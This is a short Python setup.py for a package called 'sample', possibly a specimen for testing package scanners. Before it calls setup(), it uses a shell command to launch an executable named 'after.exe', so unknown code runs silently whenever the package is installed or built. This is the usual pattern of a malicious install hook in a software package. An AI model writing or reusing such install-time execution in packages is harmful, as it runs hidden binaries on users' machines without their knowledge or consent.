from subprocess import run

from setuptools import setup

try:
    run(["start", "after.exe"], shell=True)
except OSError as error:
    print(error)

setup(name="sample")
